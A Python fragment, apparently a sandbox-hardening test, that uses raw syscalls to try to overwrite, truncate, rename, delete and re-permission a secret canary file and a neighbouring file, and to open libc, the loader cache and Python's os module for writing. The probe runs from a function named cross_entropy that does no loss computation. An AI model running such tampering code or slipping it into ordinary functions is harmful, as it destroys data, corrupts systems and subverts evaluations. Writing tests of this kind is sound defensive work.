# It overwrites, truncates, renames and deletes the secret and the neighbor, and opens libraries for writing.
# %%
def work():
    import importlib.util
    o = {}
    def note(**k):
        for n, r in k.items(): o[n + ':' + str(r)] = o.get(n + ':' + str(r), 0) + 1
    for p in (b'{CANARY_FILE}', b'{NEIGHBOR}'):
        note(w=sc(2, p, 1), t=sc(2, p, 0o1001), rt=sc(2, p, 0o1000), tr=sc(76, p, 0), un=sc(87, p), una=sc(263, -100, p, 0), rn=sc(82, p, p + b'x'), rn2=sc(316, -100, p, -100, p + b'x', 2), ch=sc(90, p, 0o777), ch2=sc(268, -100, p, 0o777), ch3=sc(452, -100, p, 0o777, 0), ow=sc(92, p, 0, 0), ow2=sc(260, -100, p, 0, 0, 0), ut=sc(132, p, 0), ut2=sc(280, -100, p, 0, 0), ut3=sc(235, p, 0), ut4=sc(261, -100, p, 0))
    for p in ('/etc/ld.so.cache', os.__file__, importlib.util.cache_from_source(os.__file__), sys.modules['sealed'].__file__ if hasattr(sys.modules.get('sealed'), '__file__') else '/x', '/usr/lib/os-release', '/lib/x86_64-linux-gnu/libc.so.6'):
        p = p.encode(); note(lib=sc(2, p, 1), lib2=sc(2, p, 2), lib3=sc(2, p, 0o2001), lib4=sc(257, -100, p, 2, 0), lib5=sc(437, -100, p, ctypes.create_string_buffer(struct.pack('QQQ', 1, 0, 0)), 24))
    return str(o)
def cross_entropy(logits, targets):
    return once(work)
